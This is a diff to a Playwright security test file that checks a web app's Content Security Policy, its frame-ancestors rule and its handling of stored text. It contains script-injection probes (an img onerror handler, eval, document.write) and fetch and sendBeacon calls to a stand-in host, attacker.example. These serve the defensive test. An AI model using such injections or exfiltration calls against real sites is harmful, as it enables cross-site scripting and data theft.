@@ -7,7 +7,7 @@ import threading
 import pytest
 from playwright.sync_api import expect
 
-from support import projects
+from support import browsing, projects
 
 # One for each way that text has become a program: the page must show these letters, and nothing may run.
 CORPUS = [
@@ -38,8 +38,7 @@ PAYLOAD = "\n".join(CORPUS)
 
 def settled(page):
     """Whatever could run has had its chance: images failed, frames loaded, timers and microtasks ran."""
-    page.wait_for_load_state("networkidle")
-    page.evaluate("new Promise(resolve => setTimeout(() => requestAnimationFrame(resolve), 50))")
+    browsing.settle(page)
     elements = page.evaluate("""() => [...document.querySelectorAll('main script, main iframe, main object, main embed, main base, main meta, ' +
         'main link, main style, main img:not([src^="blob:"]):not([src^="data:image"]), main form[action]')].map(element => element.outerHTML.slice(0, 200))""")
     assert not elements, f"text became elements: {elements}"
@@ -189,7 +188,7 @@ def test_ui_03_no_other_page_frames_the_app(roost, chromium, make_person):
         page = person.page
         page.goto(server.address)
         expect(page.frame_locator("#control").get_by_text("the control shows")).to_be_visible()
-        page.wait_for_load_state("networkidle")
+        browsing.settle(page)
         assert not [frame for frame in page.frames if frame.url.startswith(f"{roost.url}/app")], [frame.url for frame in page.frames]
         answer = roost.door.ask("GET", "/app/")
         assert "frame-ancestors 'none'" in answer.headers["content-security-policy"]
@@ -231,20 +230,24 @@ def test_ui_02_the_policy_of_the_page_forbids_what_it_does_not_need(roost):
 def test_ui_02_the_policy_is_in_force(person):
     """The control for all that was not run: what a stored script would do is stopped by the browser itself, on this very page."""
     page = person.page
-    person.allow("content policy", "refused by policy", "Content Security Policy", "TrustedHTML", "Trusted Type", "unhandled", "violates", "Executing inline",
+    person.allow("content policy", "refused by policy", "Content Security Policy", "TrustedHTML", "Trusted Type", "TrustedScript", "unhandled", "violates", "Executing inline",
                  "Loading the", "Refused to", "Applying inline", "Connecting to", "Evaluating a string", "request to http://attacker")
     attempts = page.evaluate("""async () => {
         const tried = {}
         const attempt = async (name, work) => { try { await work(); tried[name] = 'done' } catch (error) { tried[name] = error.name } }
         globalThis.ran = []
+        // The driver's own evaluation may do what the page may not: what follows runs as the page's.
+        await new Promise(resolve => setTimeout(resolve))
         await attempt('innerHTML', () => { document.createElement('div').innerHTML = '<img src=x onerror="ran.push(1)">' })
         await attempt('eval', () => (0, eval)('ran.push(1)'))
         await attempt('Function', () => new Function('ran.push(1)')())
         await attempt('document.write', () => document.write('<script>ran.push(1)</' + 'script>'))
         const script = document.createElement('script')
         await attempt('script text', () => { script.textContent = 'ran.push(1)'; document.body.append(script) })
-        const link = document.createElement('img')
-        link.setAttribute('onerror', 'ran.push(1)'); link.src = 'x:y'; document.body.append(link)
+        await attempt('handler', () => {
+            const picture = document.createElement('img')
+            picture.setAttribute('onerror', 'ran.push(1)'); picture.src = 'x:y'; document.body.append(picture)
+        })
         await attempt('fetch', () => fetch('http://attacker.example/', { mode: 'no-cors' }))
         await attempt('beacon', () => { if (!navigator.sendBeacon('http://attacker.example/', 'x')) throw new TypeError() })
         await attempt('worker', () => new Worker('data:text/javascript,postMessage(1)'))
